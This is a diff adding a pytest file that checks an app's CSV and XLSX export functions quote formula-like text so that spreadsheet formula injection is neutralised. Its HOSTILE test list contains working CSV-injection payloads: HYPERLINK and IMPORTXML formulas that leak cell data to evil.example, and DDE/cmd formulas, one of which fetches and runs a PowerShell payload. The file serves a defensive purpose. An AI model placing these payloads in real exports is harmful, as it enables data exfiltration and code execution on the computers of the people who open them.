@@ -1,0 +1,177 @@
+"""Can text in an export run as a formula when a clerk opens it in a spreadsheet?"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import subprocess
+import sys
+from decimal import Decimal
+
+import pytest
+from openpyxl import load_workbook
+
+from app.spreadsheets import csv_bytes, is_formula_like, safe_cell, sheet_title, xlsx_bytes
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Ver factura")',
+    "=1+1",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\r\n=1",
+    " =1",
+    "   +1",
+    "\u00a0=1",  # no-break space
+    "\u3000=1",  # ideographic space
+    "\u200b=1",  # zero-width space
+    "\ufeff=1",  # a byte-order mark inside the text
+    "\uff1d1+1",  # ＝
+    "\uff0b1+1",  # ＋
+    "\uff0d1+1",  # －
+    "\uff20SUM(A1)",  # ＠
+    "\u22121+1",  # − minus sign
+    "=cmd|' /C calc'!A0",
+    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
+    "\t",
+    "-",
+    "=",
+]
+
+HARMLESS = [
+    "FV-1001",
+    "Ferretería Núñez S.A.S.",
+    "Mozilla/5.0 (X11; Linux x86_64)",
+    "a=b",
+    "1+1",
+    "5-3",
+    "user@example.test",
+    '{"n": "ñ"}',
+    "'already quoted",
+    "",
+]
+
+
+def read_csv(data: bytes) -> list[list[str]]:
+    text = data.decode("utf-8")
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text[1:], newline="")))
+
+
+def read_xlsx(data: bytes):
+    return list(load_workbook(io.BytesIO(data)).active.iter_rows())
+
+
+@pytest.mark.parametrize("value", HOSTILE, ids=repr)
+def test_is_formula_like_text_prefixed_with_a_quote(value):
+    assert is_formula_like(value)
+    assert safe_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", HARMLESS, ids=repr)
+def test_is_ordinary_text_left_as_it_was(value):
+    assert not is_formula_like(value)
+    assert safe_cell(value) == value
+
+
+@pytest.mark.parametrize("value", HOSTILE, ids=repr)
+def test_does_the_csv_carry_hostile_text_neutralised_and_whole(value):
+    rows = read_csv(csv_bytes([["FV-1", value, Decimal("5.00")]], header=["n", "text", "amount"]))
+    assert rows[1][1] == "'" + value
+    assert rows[1][2] == "5.00"
+
+
+@pytest.mark.parametrize("value", HOSTILE, ids=repr)
+def test_is_hostile_text_a_quoted_string_in_the_xlsx_never_a_formula(value):
+    rows = read_xlsx(xlsx_bytes([["FV-1", value]], header=["n", "text"], title="received"))
+    cell = rows[1][1]
+    assert cell.data_type == "s"
+    assert cell.value.startswith("'")
+    assert _lines(cell.value[1:]) == _lines(value)  # XML may fold a CR into a line break
+    raw = _sheet_xml(xlsx_bytes([["FV-1", value]], header=["n", "text"], title="received"))
+    assert "<f>" not in raw and "<f " not in raw
+
+
+@pytest.mark.parametrize("value", HARMLESS[:-1], ids=repr)
+def test_does_ordinary_text_come_back_exactly_from_both_formats(value):
+    header = ["text"]
+    assert read_csv(csv_bytes([[value]], header=header))[1][0] == value
+    cell = read_xlsx(xlsx_bytes([[value]], header=header, title="t"))[1][0]
+    assert cell.value == value and cell.data_type == "s"
+
+
+@pytest.mark.parametrize(
+    "amount", [Decimal("-5.00"), Decimal("-0.01"), Decimal("468860.00"), Decimal("1E+3"), -7, 2.5]
+)
+def test_do_amounts_stay_numbers_even_when_negative(amount):
+    """A typed amount is not text: the CSV holds the plain number and the XLSX a number."""
+    csv_value = read_csv(csv_bytes([[amount]], header=["amount"]))[1][0]
+    assert not csv_value.startswith("'")
+    assert Decimal(csv_value) == Decimal(str(amount))
+    assert "E" not in csv_value
+    cell = read_xlsx(xlsx_bytes([[amount]], header=["amount"], title="t"))[1][0]
+    assert cell.data_type == "n"
+    assert Decimal(str(cell.value)) == Decimal(str(amount))
+
+
+def test_are_dates_dates_and_empty_cells_empty():
+    when = dt.datetime(2024, 4, 10, 15, 30, tzinfo=dt.timezone(dt.timedelta(hours=-5)))
+    row = [dt.date(2024, 4, 10), when, None]
+    assert read_csv(csv_bytes([row], header=["a", "b", "c"]))[1] == [
+        "2024-04-10",
+        when.isoformat(),
+        "",
+    ]
+    cells = read_xlsx(xlsx_bytes([row], header=["a", "b", "c"], title="t"))[1]
+    assert cells[0].value == dt.datetime(2024, 4, 10) and cells[0].is_date
+    assert cells[1].value == dt.datetime(2024, 4, 10, 20, 30)  # UTC wall time
+    assert cells[2].value is None
+
+
+def test_are_headers_neutralised_too():
+    header = ["=HYPERLINK(1)", "Monto"]
+    assert read_csv(csv_bytes([], header=header))[0] == ["'=HYPERLINK(1)", "Monto"]
+    cell = read_xlsx(xlsx_bytes([], header=header, title="t"))[0][0]
+    assert cell.value == "'=HYPERLINK(1)" and cell.data_type == "s"
+
+
+@pytest.mark.parametrize("value", ["bell\x07", "nul\x00byte", "=esc\x1b[31m", "\x0bvt"], ids=repr)
+def test_does_text_with_control_characters_still_write_an_xlsx(value):
+    """A user agent with a control character must not turn the export into a 500."""
+    cell = read_xlsx(xlsx_bytes([[value]], header=["ua"], title="audit"))[1][0]
+    assert cell.data_type == "s"
+    assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in cell.value)
+
+
+@pytest.mark.parametrize(
+    ("title", "expected"),
+    [("received", "received"), ("a/b:c*d?[e]", "abcde"), ("x" * 40, "x" * 31), ("[]", "Sheet")],
+)
+def test_is_any_sheet_title_one_excel_accepts(title, expected):
+    assert sheet_title(title) == expected
+    xlsx_bytes([], header=["a"], title=title)
+
+
+def test_does_the_module_load_without_flask():
+    code = "import sys, app.spreadsheets; print('flask' in sys.modules)"
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
+    assert out.stdout.strip() == "False"
+
+
+def _sheet_xml(data: bytes) -> str:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
+
+
+def _lines(text: str) -> str:
+    return text.replace("\r\n", "\n").replace("\r", "\n")
